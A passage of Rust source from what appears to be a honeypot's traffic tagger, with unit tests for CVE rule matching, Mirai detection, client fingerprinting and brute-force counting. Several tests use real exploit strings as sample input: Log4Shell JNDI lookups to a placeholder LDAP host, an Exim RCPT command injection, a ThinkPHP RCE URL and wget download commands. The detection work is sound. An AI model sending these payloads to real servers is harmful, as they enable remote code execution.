                    out.behaviour(st.as_mut(), b);
                }
                return;
            }
            K::LoginFailed { .. } | K::LoginSuccess { .. } => {
                let now = u32::try_from(ev.timestamp.unix_micros().max(0) / 1_000_000)
                    .unwrap_or(u32::MAX);
                let over = attempt(
                    &mut self.sources,
                    ev.src_ip,
                    now,
                    self.attempts,
                    self.window,
                    self.max_sources,
                    &mut self.stats,
                );
                if over {
                    if let Some(st) = self.sessions.get_mut(&key) {
                        out.behaviour(Some(st), B_BRUTE_FORCE);
                    }
                }
                return;
            }
            _ => {}
        }
        let Some(st) = self.sessions.get_mut(&key) else {
            return;
        };
        match &ev.kind {
            K::Input { data: p, .. } => {
                let bytes = p.as_bytes();
                if bytes.is_empty() {
                    return;
                }
                if st.proto.is_none() {
                    st.proto = Some(super::protocol_of(bytes));
                }
                let src = Src::Input(st.proto);
                let hay: &[u8] = if st.carry.is_empty() {
                    bytes
                } else {
                    self.scratch.clear();
                    self.scratch.extend_from_slice(&st.carry);
                    self.scratch.extend_from_slice(bytes);
                    &self.scratch
                };
                scan(data, st, hay, src, &mut out);
                let keep = hay.len().min(CARRY);
                let tail = &hay[hay.len() - keep..];
                if st.carry.capacity() == 0 {
                    st.carry.reserve_exact(CARRY);
                }
                // `tail` is in the input or in scratch, never in carry itself.
                st.carry.clear();
                st.carry.extend_from_slice(tail);
            }
            K::CommandInput { input, .. } => {
                let line = input.as_bytes();
                scan(data, st, line, Src::Command, &mut out);
                if let Some(c) = data.busybox.captures(line) {
                    let len = c.get(1).map_or(0, |m| m.len()) as u64;
                    let idx = data.behaviour(B_MIRAI_TOKEN);
                    out.tag(Some(st), idx, len);
                    if st.fired.contains(&data.behaviour(B_MIRAI_OPTIONS)) {
                        out.behaviour(Some(st), B_MIRAI);
                    }
                }
            }
            K::TelnetOptions { pattern } if is_mirai_pattern(pattern) => {
                out.behaviour(Some(st), B_MIRAI_OPTIONS);
                if st.fired.contains(&data.behaviour(B_MIRAI_TOKEN)) {
                    out.behaviour(Some(st), B_MIRAI);
                }
            }
            K::HttpRequest {
                target,
                headers,
                user_agent,
                ..
            } => {
                let t = target.as_bytes();
                self.scratch.clear();
                self.scratch.extend_from_slice(t);
                for (_, v) in headers {
                    self.scratch.push(b'\n');
                    self.scratch.extend_from_slice(v.as_bytes());
                }
                scan(data, st, &self.scratch, Src::Http, &mut out);
                if t.contains(&b'%') {
                    percent_decode(t, &mut self.scratch);
                    scan(data, st, &self.scratch, Src::HttpDecoded, &mut out);
                }
                if let Some(ua) = user_agent {
                    let ua = ua.as_bytes();
                    if let Some((client, re)) = data.ua.first(ua) {
                        out.name(st, By::UserAgent, *client, Some(re), ua);
                    }
                }
            }
            K::ClientVersion { version } => {
                let v = version.as_bytes();
                if let Some((client, re)) = data.ssh.first(v) {
                    out.name(st, By::SshVersion, *client, Some(re), v);
                }
            }
            K::ClientKex { hassh, .. } => {
                if let Some(&c) = data.hassh.get(hassh.as_str()) {
                    out.name(st, By::Hassh, c, None, b"");
                }
            }
            K::TlsClientHello { ja3, ja4, .. } => {
                if let Some(&c) = data.ja3.get(ja3.as_str()) {
                    out.name(st, By::Ja3, c, None, b"");
                }
                if let Some(&c) = data.ja4.get(ja4.as_str()) {
                    out.name(st, By::Ja4, c, None, b"");
                }
            }
            K::RuleMatch { rule, action, .. } if action == "tag" => {
                if let Some(&idx) = data.ids.get(rule.as_str()) {
                    if st.ours.contains(&idx) {
                        self.drops.push(i);
                    } else if !st.fired.contains(&idx) {
                        st.fired.push(idx);
                    }
                }
            }
            _ => {}
        }
    }
}

/// Counts one login of `ip` at `now`; true when the source is at or over the threshold.
fn attempt(
    sources: &mut HashMap<IpAddr, Source>,
    ip: IpAddr,
    now: u32,
    attempts: usize,
    window: u32,
    max: usize,
    stats: &mut TaggerStats,
) -> bool {
    if sources.len() >= max && !sources.contains_key(&ip) {
        evict(sources, now, window, max, stats);
    }
    let s = sources.entry(ip).or_default();
    let now = now.max(s.times.back().copied().unwrap_or(0));
    while s.times.front().is_some_and(|&t| now - t >= window) {
        s.times.pop_front();
    }
    s.times.push_back(now);
    while s.times.len() > attempts {
        s.times.pop_front();
    }
    s.times.len() >= attempts
}

/// Makes room for a new source: drops sources with no login in the window, then if still
/// full the oldest sixteenth (by last login).
fn evict(
    sources: &mut HashMap<IpAddr, Source>,
    now: u32,
    window: u32,
    max: usize,
    stats: &mut TaggerStats,
) {
    let before = sources.len();
    let last = |s: &Source| s.times.back().copied().unwrap_or(0);
    sources.retain(|_, s| now.saturating_sub(last(s)) < window);
    if sources.len() >= max {
        let mut lasts: Vec<u32> = sources.values().map(last).collect();
        let k = (max / 16).max(1).min(lasts.len() - 1);
        let (_, cut, _) = lasts.select_nth_unstable(k);
        let cut = *cut;
        sources.retain(|_, s| last(s) > cut);
    }
    let gone = (before - sources.len()) as u64;
    stats.evicted_sources += gone;
    if gone > 0 {
        tracing::warn!(
            forgotten = gone,
            evicted = stats.evicted_sources,
            "tagger: too many sources for brute-force counting, the oldest were forgotten"
        );
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use honeyport_event::{Payload, SessionId, Timestamp, Transport};

    fn spec() -> TaggerSpec {
        TaggerSpec::builtin().unwrap()
    }

    fn ev(sid: u64, src: &str, secs: i64, kind: EventKind) -> Event {
        Event {
            v: honeyport_event::SCHEMA_VERSION,
            timestamp: Timestamp::from_unix_micros(1_764_175_200_000_000 + secs * 1_000_000)
                .unwrap(),
            sensor: "hp1".into(),
            session: SessionId::from_u64(sid),
            transport: Transport::Tcp,
            src_ip: src.parse().unwrap(),
            src_port: 40000,
            dst_ip: "127.0.0.1".parse().unwrap(),
            dst_port: 80,
            kind,
        }
    }

    fn connect() -> EventKind {
        EventKind::Connect {
            listener: "l".into(),
            persona: "p".into(),
            tls: false,
        }
    }

    fn input(b: &[u8]) -> EventKind {
        EventKind::Input {
            data: Payload(b.to_vec()),
            len: b.len() as u64,
        }
    }

    fn closed(bytes_in: u64, bytes_out: u64) -> EventKind {
        EventKind::Closed {
            duration: 0.5,
            bytes_in,
            bytes_out,
            reason: EndReason::PeerClosed,
            limit: None,
        }
    }

    fn command(c: &str) -> EventKind {
        EventKind::CommandInput {
            input: Payload(c.as_bytes().to_vec()),
            recognised: true,
        }
    }

    fn login() -> EventKind {
        EventKind::LoginFailed {
            username: Payload(b"root".to_vec()),
            password: Payload(b"root".to_vec()),
            method: "telnet".into(),
        }
    }

    fn persona_tag(rule: &str) -> EventKind {
        EventKind::RuleMatch {
            rule: rule.into(),
            action: "tag".into(),
            match_len: 7,
        }
    }

    fn http(target: &[u8], ua: Option<&str>) -> EventKind {
        let mut headers = vec![(Payload(b"Host".to_vec()), Payload(b"x".to_vec()))];
        if let Some(ua) = ua {
            headers.push((
                Payload(b"User-Agent".to_vec()),
                Payload(ua.as_bytes().to_vec()),
            ));
        }
        EventKind::HttpRequest {
            method: Payload(b"GET".to_vec()),
            target: Payload(target.to_vec()),
            version: "HTTP/1.1".into(),
            headers,
            body_len: 0,
            user_agent: ua.map(|u| Payload(u.as_bytes().to_vec())),
        }
    }

    /// Runs one batch; returns it (with what the tagger added).
    fn run(t: &mut Tagger, events: Vec<Event>) -> Vec<Event> {
        let mut b = events;
        t.observe(&mut b);
        b
    }

    fn tags(events: &[Event]) -> Vec<String> {
        events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::RuleMatch { rule, action, .. } if action == "tag" => Some(rule.clone()),
                _ => None,
            })
            .collect()
    }

    fn names(events: &[Event]) -> Vec<(String, String)> {
        events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::ClientName { name, by } => Some((name.clone(), by.clone())),
                _ => None,
            })
            .collect()
    }

    fn ids(events: &[Event]) -> Vec<&'static str> {
        events.iter().map(|e| e.kind.eventid()).collect()
    }

    /// The built-in data files load (every rule's and client's examples are checked while
    /// they load), and hold the rules the issue asks for.
    #[test]
    fn built_in_data_files_are_valid() {
        let d = TagData::builtin().unwrap();
        for id in [
            "CVE-2019-10149",
            "CVE-2021-44228",
            "CVE-2018-20062",
            "hadoop-yarn-rce",
            "docker-api",
            "CVE-2014-8361",
            "CVE-2017-17215",
            "CVE-2018-10561",
            "CVE-2018-10562",
            "CVE-2017-9841",
            "CVE-2021-41773",
            "CVE-2021-42013",
            "CVE-2014-6271",
            "CVE-2022-22965",
            "CVE-2022-1388",
            "CVE-2022-30525",
            "jaws-dvr-rce",
            "redis-config-set-dir",
            "redis-slaveof",
        ] {
            assert!(d.rules().iter().any(|r| r.id == id), "{id}");
        }
        assert!(d.clients().len() > 30);
    }

    /// Every example of every rule matches its rule and only its rule (in the one-pass set).
    #[test]
    fn every_rule_example_matches_its_rule_through_the_set() {
        let d = TagData::builtin().unwrap();
        let file: toml::Table = toml::from_str(BUILTIN_RULES).unwrap();
        let rules = file["rules"].as_array().unwrap();
        assert_eq!(rules.len(), d.rules().len());
        for (i, r) in rules.iter().enumerate() {
            for ex in r["examples"].as_array().unwrap() {
                let ex = ex.as_str().unwrap().as_bytes();
                let hits: Vec<usize> = d
                    .scan
                    .matches(ex)
                    .iter()
                    .filter(|&j| j < d.rules().len())
                    .collect();
                assert!(hits.contains(&i), "{} {:?}", d.rules()[i].id, ex);
            }
        }
    }

    #[test]
    fn benign_traffic_matches_no_rule_and_no_research_scanner() {
        let d = TagData::builtin().unwrap();
        for b in [
            &b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"[..],
            b"GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nAccept: */*\r\n\r\n",
            b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nusername=admin&password=admin",
            b"GET /favicon.ico HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /shell.php HTTP/1.1\r\n\r\n",
            b"GET /cgi-bin/luci HTTP/1.1\r\n\r\n",
            b"GET /v1.41/_ping HTTP/1.1\r\n\r\n",
            b"GET /_ping HTTP/1.1\r\n\r\n",
            b"EHLO example.com\r\nMAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.com>\r\nDATA\r\n",
            b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
            b"enable\r\nsystem\r\nshell\r\nsh\r\ncat /proc/cpuinfo; uname -a; ls -la /tmp\r\n",
            b"*1\r\n$4\r\nPING\r\n*2\r\n$4\r\nINFO\r\n$6\r\nserver\r\n",
            b"function f() { return 1; };",
            b"GET /?q=%24%7Bname%7D HTTP/1.1\r\n\r\n",
        ] {
            let hits: Vec<usize> = d.scan.matches(b).iter().collect();
            assert!(hits.is_empty(), "{:?} matched {hits:?}", String::from_utf8_lossy(b));
        }
    }

    /// Each client example gives its own entry's name, first (the order in the file holds).
    #[test]
    fn every_client_example_gives_its_entry_first() {
        let d = TagData::builtin().unwrap();
        let file: toml::Table = toml::from_str(BUILTIN_CLIENTS).unwrap();
        for (i, c) in file["clients"].as_array().unwrap().iter().enumerate() {
            let Some(exs) = c.get("examples") else {
                continue;
            };
            for ex in exs.as_array().unwrap() {
                let ex = ex.as_str().unwrap().as_bytes();
                let first: Vec<usize> = [d.ssh.first(ex), d.ua.first(ex)]
                    .into_iter()
                    .flatten()
                    .map(|(c, _)| *c)
                    .collect();
                if c.get("ssh_version").is_some() || c.get("user_agent").is_some() {
                    assert!(
                        first.contains(&i),
                        "{:?}: {:?} wins over {}",
                        String::from_utf8_lossy(ex),
                        first,
                        d.clients()[i].name
                    );
                }
            }
        }
    }

    #[test]
    fn client_names_fill_in_version_groups() {
        let d = TagData::builtin().unwrap();
        let name = |m: &Matchers, s: &str| {
            let (c, re) = m.first(s.as_bytes()).unwrap();
            expand(&d.clients()[*c].name, Some(re), s.as_bytes())
        };
        assert_eq!(
            name(&d.ssh, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"),
            "OpenSSH 9.x"
        );
        assert_eq!(name(&d.ssh, "SSH-2.0-paramiko_3.4.0"), "paramiko 3.x");
        assert_eq!(name(&d.ssh, "SSH-2.0-libssh2_1.10.0"), "libssh2 1.10");
        assert_eq!(name(&d.ssh, "SSH-2.0-Go"), "Go x/crypto");
        assert_eq!(name(&d.ua, "curl/7.88.1"), "curl/7");
        assert_eq!(name(&d.ua, "Mozilla/5.0 zgrab/0.x"), "zgrab");
        assert_eq!(name(&d.ua, "Mozilla/5.0 (Windows NT 10.0)"), "browser-like");
        assert!(d.ssh.first(b"SSH-2.0-Unknown").is_none());
    }

    #[test]
    fn a_pattern_split_across_two_reads_still_matches_once() {
        let mut t = Tagger::new(&spec());
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(
                    1,
                    "192.0.2.1",
                    0,
                    input(b"GET / HTTP/1.1\r\nUser-Agent: ${jn"),
                ),
            ],
        );
        assert!(tags(&out).is_empty());
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 1, input(b"di:ldap://203.0.113.9/a}\r\n")),
                ev(
                    1,
                    "192.0.2.1",
                    1,
                    input(b"X: ${jndi:ldap://203.0.113.9/b}\r\n\r\n"),
                ),
                ev(1, "192.0.2.1", 2, closed(60, 10)),
            ],
        );
        assert_eq!(
            ids(&out),
            [
                "session.input",
                "rule.match",
                "session.input",
                "session.closed"
            ]
        );
        assert_eq!(tags(&out), ["CVE-2021-44228"]);
        assert_eq!(out[1].session, out[0].session);
        assert_eq!(out[1].timestamp, out[0].timestamp);
        assert_eq!(t.open_sessions(), 0, "state removed at close");
    }

    #[test]
    fn http_targets_are_matched_raw_and_percent_decoded() {
        let mut t = Tagger::new(&spec());
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(1, "192.0.2.1", 0, http(b"/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D", None)),
                ev(1, "192.0.2.1", 0, http(b"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5", Some("curl/7.88.1"))),
                ev(1, "192.0.2.1", 1, closed(100, 100)),
            ],
        );
        assert_eq!(tags(&out), ["CVE-2021-44228", "CVE-2018-20062"]);
        assert_eq!(
            names(&out),
            [("curl/7".to_string(), "http.user_agent".to_string())]
        );
        assert!(matches!(out.last().unwrap().kind, EventKind::Closed { .. }));
    }

    /// A tag the persona gave is not given again; a persona's copy of one the tagger gave
    /// first is dropped.
    #[test]
    fn a_persona_tag_is_never_doubled() {
        let rcpt: &[u8] = b"RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>\r\n";
        let mut t = Tagger::new(&spec());
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(1, "192.0.2.1", 0, input(rcpt)),
                ev(1, "192.0.2.1", 0, persona_tag("CVE-2019-10149")),
                ev(1, "192.0.2.1", 0, closed(10, 10)),
            ],
        );
        assert_eq!(tags(&out), ["CVE-2019-10149"]);
        let EventKind::RuleMatch { match_len, .. } = &out[2].kind else {
            panic!("{out:#?}")
        };
        assert_eq!(
            *match_len as usize,
            rcpt.len() - b"RCPT TO:<>\r\n".len(),
            "the address"
        );
        assert_eq!(t.stats().duplicates, 1);
        // The persona first: the tagger does not add its own.
        let out = run(
            &mut t,
            vec![
                ev(2, "192.0.2.1", 0, connect()),
                ev(2, "192.0.2.1", 0, persona_tag("CVE-2019-10149")),
                ev(2, "192.0.2.1", 0, input(rcpt)),
                ev(2, "192.0.2.1", 0, closed(10, 10)),
            ],
        );
        assert_eq!(tags(&out), ["CVE-2019-10149"]);
        assert_eq!(out.len(), 4);
    }

    #[test]
    fn research_scanners_are_named_and_tagged_once() {
        let mut t = Tagger::new(&spec());
        let ua = "Mozilla/5.0 zgrab/0.x";
        let raw = format!("GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: {ua}\r\n\r\n");
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(1, "192.0.2.1", 0, input(raw.as_bytes())),
                ev(1, "192.0.2.1", 0, http(b"/", Some(ua))),
                ev(1, "192.0.2.1", 0, closed(10, 10)),
            ],
        );
        assert_eq!(names(&out), [("zgrab".to_string(), "input".to_string())]);
        assert_eq!(tags(&out), [TAG_RESEARCH]);
        let out = run(
            &mut t,
            vec![
                ev(2, "192.0.2.1", 0, connect()),
                ev(
                    2,
                    "192.0.2.1",
                    0,
                    EventKind::ClientVersion {
                        version: Payload(b"SSH-2.0-ZGrab ZGrab SSH Survey".to_vec()),
                    },
                ),
                ev(2, "192.0.2.1", 0, closed(10, 10)),
            ],
        );
        assert_eq!(
            names(&out),
            [("zgrab".to_string(), "input".to_string())]
                .map(|_| ("zgrab".to_string(), "ssh.version".to_string()))
        );
        assert_eq!(tags(&out), [TAG_RESEARCH]);
    }

    #[test]
    fn exact_fingerprints_name_clients_from_an_extra_file() {
        let mut errors = Vec::new();
        let extra = parse_clients(
            "[[clients]]\nname = \"my bot\"\nhassh = \"0123456789abcdef0123456789ABCDEF\"\n\
             [[clients]]\nname = \"my tls bot\"\nja4 = \"t13d0101h2_aaaaaaaaaaaa_bbbbbbbbbbbb\"\n",
            &mut errors,
        );
        assert!(errors.is_empty(), "{errors:?}");
        let (r, c) = builtin().as_ref().unwrap();
        let mut clients = extra;
        clients.extend(c.iter().cloned());
        let spec = TaggerSpec {
            data: Arc::new(TagData::new(r.clone(), clients).unwrap()),
            ..spec()
        };
        let mut t = Tagger::new(&spec);
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(
                    1,
                    "192.0.2.1",
                    0,
                    EventKind::ClientKex {
                        hassh: "0123456789abcdef0123456789abcdef".into(),
                        hassh_algorithms: String::new(),
                        kex_algs: vec![],
                        key_algs: vec![],
                        enc_cs: vec![],
                        mac_cs: vec![],
                        comp_cs: vec![],
                        lang_cs: vec![],
                    },
                ),
                ev(
                    1,
                    "192.0.2.1",
                    0,
                    EventKind::TlsClientHello {
                        ja3: "00".repeat(16),
                        ja3_string: String::new(),
                        ja4: "t13d0101h2_aaaaaaaaaaaa_bbbbbbbbbbbb".into(),
                        ja4_r: String::new(),
                        sni: None,
                        alpn: vec![],
                    },
                ),
            ],
        );
        assert_eq!(
            names(&out),
            [
                ("my bot".to_string(), "hassh".to_string()),
                ("my tls bot".to_string(), "ja4".to_string())
            ]
        );
    }

    #[test]
    fn brute_force_tags_the_session_reaching_the_threshold_and_later_ones() {
        let spec = TaggerSpec {
            brute_force_attempts: 3,
            brute_force_window: Duration::from_secs(60),
            ..spec()
        };
        let mut t = Tagger::new(&spec);
        let mut tagged = Vec::new();
        // One login per session from one source, 10s apart; another source in between.
        for (sid, src, at) in [
            (1, "192.0.2.1", 0),
            (2, "192.0.2.1", 10),
            (3, "192.0.2.9", 15),
            (4, "192.0.2.1", 20),
            (5, "192.0.2.1", 30),
            (6, "192.0.2.1", 200),
        ] {
            let out = run(
                &mut t,
                vec![
                    ev(sid, src, at, connect()),
                    ev(sid, src, at, login()),
                    ev(sid, src, at, closed(10, 10)),
                ],
            );
            tagged.push(tags(&out).contains(&TAG_BRUTE_FORCE.to_string()));
        }
        assert_eq!(tagged, [false, false, false, true, true, false]);
        // Several logins in one session: tagged once.
        let out = run(
            &mut t,
            vec![
                ev(7, "192.0.2.2", 0, connect()),
                ev(7, "192.0.2.2", 0, login()),
                ev(7, "192.0.2.2", 1, login()),
                ev(7, "192.0.2.2", 2, login()),
                ev(7, "192.0.2.2", 3, login()),
                ev(7, "192.0.2.2", 4, closed(10, 10)),
            ],
        );
        assert_eq!(tags(&out), [TAG_BRUTE_FORCE]);
        assert_eq!(
            ids(&out),
            [
                "session.connect",
                "login.failed",
                "login.failed",
                "login.failed",
                "rule.match",
                "login.failed",
                "session.closed"
            ]
        );
    }

    #[test]
    fn brute_force_sources_are_bounded() {
        let spec = TaggerSpec {
            brute_force_attempts: 2,
            ..spec()
        };
        let mut t = Tagger::with_limits(&spec, 16, 32);
        for i in 0..1000u64 {
            let ip = format!("10.0.{}.{}", i / 256, i % 256);
            run(&mut t, vec![ev(i + 1, &ip, i as i64, login())]);
            assert!(t.sources() <= 32);
        }
        assert!(t.stats().evicted_sources >= 1000 - 32);
    }

    #[test]
    fn sessions_beyond_the_bound_are_counted_not_tracked() {
        let mut t = Tagger::with_limits(&spec(), 2, 16);
        let mut b: Vec<Event> = (1..=3).map(|s| ev(s, "192.0.2.1", 0, connect())).collect();
        b.extend((1..=3).map(|s| {
            ev(
                s,
                "192.0.2.1",
                0,
                input(b"GET /shell?cd+/tmp;wget+x HTTP/1.1\r\n"),
            )
        }));
        let out = run(&mut t, b);
        assert_eq!(t.stats().untracked, 1);
        assert_eq!(tags(&out), ["jaws-dvr-rce", "jaws-dvr-rce"]);
        assert_eq!(t.open_sessions(), 2);
        // Closing all three: the state goes, an untracked session still gets its scanner tag.
        let out = run(
            &mut t,
            (1..=3)
                .map(|s| ev(s, "192.0.2.1", 1, closed(0, 0)))
                .collect(),
        );
        assert_eq!(tags(&out), [TAG_CONNECT_ONLY; 3]);
        assert_eq!(t.open_sessions(), 0);
    }

    #[test]
    fn mirai_needs_both_its_telnet_answers_and_its_busybox_token() {
        assert!(is_mirai_pattern(
            "WONT ECHO,WILL NAWS,SB NAWS 80x24,DO ECHO,DO SGA"
        ));
        assert!(is_mirai_pattern("WILL NAWS,SB NAWS 80x24"));
        for p in [
            "WILL TTYPE,WONT TSPEED,SB TTYPE IS X",
            "WONT ECHO,WONT NAWS,DONT ECHO,DONT SGA",
            "WONT TTYPE,WONT TSPEED,WONT XDISPLOC,WONT NEW-ENVIRON",
            "WONT ECHO,WILL NAWS,SB NAWS 132x43,DO ECHO,DO SGA",
            "DO ECHO,WILL NAWS,SB NAWS 80x24,DONT SGA",
            "",
        ] {
            assert!(!is_mirai_pattern(p), "{p}");
        }
        let opts = EventKind::TelnetOptions {
            pattern: "WONT ECHO,WILL NAWS,SB NAWS 80x24,DO ECHO,DO SGA".into(),
        };
        let mut t = Tagger::new(&spec());
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(1, "192.0.2.1", 0, opts.clone()),
                ev(1, "192.0.2.1", 0, command("enable")),
                ev(
                    1,
                    "192.0.2.1",
                    0,
                    command("/bin/busybox ps; /bin/busybox ECCHI"),
                ),
                ev(1, "192.0.2.1", 0, command("/bin/busybox MIRAI")),
                ev(1, "192.0.2.1", 1, closed(10, 10)),
            ],
        );
        assert_eq!(tags(&out), [TAG_MIRAI_OPTIONS, TAG_MIRAI_TOKEN, TAG_MIRAI]);
        // Only one of the two: no `mirai`.
        let out = run(
            &mut t,
            vec![
                ev(2, "192.0.2.1", 0, connect()),
                ev(2, "192.0.2.1", 0, command("/bin/busybox ECCHI")),
                ev(2, "192.0.2.1", 0, command("busybox wget http://x/y")),
                ev(2, "192.0.2.1", 0, command("/bin/busybox ABC")),
                ev(2, "192.0.2.1", 1, closed(10, 10)),
            ],
        );
        assert_eq!(tags(&out), [TAG_MIRAI_TOKEN]);
        let out = run(
            &mut t,
            vec![
                ev(3, "192.0.2.1", 0, connect()),
                ev(3, "192.0.2.1", 0, opts),
                ev(3, "192.0.2.1", 1, closed(10, 10)),
            ],
        );
        assert_eq!(tags(&out), [TAG_MIRAI_OPTIONS]);
    }

    #[test]
    fn silent_clients_are_tagged_just_before_closed() {
        let mut t = Tagger::new(&spec());
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(2, "192.0.2.1", 0, connect()),
                ev(3, "192.0.2.1", 0, connect()),
                ev(1, "192.0.2.1", 1, closed(0, 0)),
                ev(2, "192.0.2.1", 1, closed(0, 120)),
                ev(3, "192.0.2.1", 1, closed(5, 120)),
            ],
        );
        assert_eq!(
            ids(&out),
            [
                "session.connect",
                "session.connect",
                "session.connect",
                "rule.match",
                "session.closed",
                "rule.match",
                "session.closed",
                "session.closed"
            ]
        );
        assert_eq!(tags(&out), [TAG_CONNECT_ONLY, TAG_BANNER_GRAB]);
        assert_eq!(out[3].session, out[4].session);
        assert_eq!(out[5].session, out[6].session);
        // Refused by the sensor: the client had no chance to speak.
        let mut refused = closed(0, 0);
        if let EventKind::Closed { reason, .. } = &mut refused {
            *reason = EndReason::NotAllowed;
        }
        let out = run(
            &mut t,
            vec![
                ev(4, "192.0.2.1", 0, connect()),
                ev(4, "192.0.2.1", 1, refused),
            ],
        );
        assert!(tags(&out).is_empty());
    }

    #[test]
    fn a_batch_without_anything_to_derive_is_left_alone() {
        let mut t = Tagger::new(&spec());
        let b = vec![
            ev(1, "192.0.2.1", 0, connect()),
            ev(1, "192.0.2.1", 0, input(b"EHLO x\r\n")),
            ev(1, "192.0.2.1", 0, command("EHLO x")),
            ev(1, "192.0.2.1", 1, closed(8, 100)),
        ];
        let out = run(&mut t, b.clone());
        assert_eq!(out, b);
        assert_eq!(t.stats(), TaggerStats::default());
    }

    #[test]
    fn extra_files_are_validated_with_their_path() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("rules.toml"),
            "[[rules]]\nid = \"mine\"\nname = \"x\"\nprotocols = [\"gopher\"]\nregex = \"(\"\nexamples = []\n\
             [[rules]]\nid = \"CVE-2021-44228\"\nname = \"again\"\nprotocols = [\"any\"]\nbytes = \"zz\"\nexamples = [\"zz\"]\n\
             [[rules]]\nid = \"ok\"\nname = \"ok\"\nprotocols = [\"any\"]\nbytes = \"abc\"\nexamples = [\"xyz\"]\n",
        )
        .unwrap();
        std::fs::write(
            dir.path().join("clients.toml"),
            "[[clients]]\nname = \"x\"\nhassh = \"nothex\"\n[[clients]]\nname = \"y\"\n",
        )
        .unwrap();
        let cfg = "[classify]\nrules = \"rules.toml\"\nclients = \"clients.toml\"\n\
                   brute_force_attempts = 0\nbrute_force_window = \"soon\"\n";
        let e = match crate::config::validate_str(cfg, "t.toml", dir.path()) {
            Ok(_) => panic!("accepted"),
            Err(e) => e,
        };
        let text = e.to_string();
        for want in [
            "classify.rules",
            "rules.toml: rules[0].protocols: unknown protocol \"gopher\"",
            "rules[0].regex",
            "rules[0].examples",
            "rules[2].examples[0]: the regex does not match it",
            "clients.toml: clients[0].hassh: must be 32 hex digits",
            "clients.toml: clients[1]: needs one of",
            "classify.brute_force_attempts",
            "classify.brute_force_window",
        ] {
            assert!(text.contains(want), "{want:?} not in:\n{text}");
        }
        // A field the format does not have.
        std::fs::write(
            dir.path().join("clients.toml"),
            "[[clients]]\nname = \"y\"\ncolour = 1\n",
        )
        .unwrap();
        let e = match crate::config::validate_str(
            "[classify]\nclients = \"clients.toml\"\n",
            "t.toml",
            dir.path(),
        ) {
            Ok(_) => panic!("accepted"),
            Err(e) => e,
        };
        assert!(e.to_string().contains("unknown field `colour`"), "{e}");
        // A duplicate of a built-in id, alone.
        std::fs::write(
            dir.path().join("rules.toml"),
            "[[rules]]\nid = \"CVE-2021-44228\"\nname = \"again\"\nprotocols = [\"any\"]\nbytes = \"zz\"\nexamples = [\"zz\"]\n",
        )
        .unwrap();
        let e = match crate::config::validate_str(
            "[classify]\nrules = \"rules.toml\"\n",
            "t.toml",
            dir.path(),
        ) {
            Ok(_) => panic!("accepted"),
            Err(e) => e,
        };
        assert!(e.to_string().contains("already defined"), "{e}");
        // Good files and tags = false: valid, and no tagger.
        std::fs::write(
            dir.path().join("rules.toml"),
            "[[rules]]\nid = \"my-probe\"\nname = \"mine\"\nprotocols = [\"shell\"]\nbytes = \"/tmp/.x\"\nexamples = [\"cd /tmp/.x\"]\n",
        )
        .unwrap();
        let v = crate::config::validate_str(
            "[classify]\nrules = \"rules.toml\"\n",
            "t.toml",
            dir.path(),
        )
        .unwrap()
        .build()
        .unwrap();
        let spec = v.tagger.unwrap();
        assert!(spec.data.rules().iter().any(|r| r.id == "my-probe"));
        let mut t = Tagger::new(&spec);
        let out = run(
            &mut t,
            vec![
                ev(1, "192.0.2.1", 0, connect()),
                ev(1, "192.0.2.1", 0, input(b"cd /tmp/.x\r\n")),
                ev(1, "192.0.2.1", 0, command("cd /tmp/.x")),
            ],
        );
        assert_eq!(tags(&out), ["my-probe"], "shell only: not raw input");
        let off = crate::config::validate_str("[classify]\ntags = false\n", "t.toml", dir.path())
            .unwrap()
            .build()
            .unwrap();
        assert!(off.tagger.is_none());
    }

    /// What the tagger costs per session of a scripted SMTP dialogue (the benchmark's): run
    /// with `cargo test --release -p honeyport --lib tagger::tests::cost -- --ignored
    /// --nocapture`.
    #[test]
    #[ignore]
    fn cost_per_smtp_session() {
        let mut t = Tagger::new(&spec());
        let n = 20_000u64;
        let mut batches = Vec::new();
        for sid in 1..=n {
            let src = "192.0.2.1";
            let mut b = vec![
                ev(sid, src, 0, connect()),
                ev(
                    sid,
                    src,
                    0,
                    EventKind::Output {
                        data: Payload(b"220 mail ESMTP Exim 4.92\r\n".to_vec()),
                        len: 26,
                        truncated: false,
                    },
                ),
            ];
            for line in [
                "EHLO scan.example\r\n",
                "MAIL FROM:<a@example.com>\r\n",
                "RCPT TO:<b@example.net>\r\n",
                "QUIT\r\n",
            ] {
                b.push(ev(sid, src, 0, input(line.as_bytes())));
                b.push(ev(sid, src, 0, command(line.trim_end())));
                b.push(ev(
                    sid,
                    src,
                    0,
                    EventKind::Output {
                        data: Payload(b"250 OK\r\n".to_vec()),
                        len: 8,
                        truncated: false,
                    },
                ));
            }
            b.push(ev(
                sid,
                src,
                1,
                EventKind::Classified {
                    protocol: "smtp".into(),
                    client_first: false,
                    after_banner: Some("same".into()),
                },
            ));
            b.push(ev(sid, src, 1, closed(80, 100)));
            batches.push(b);
        }
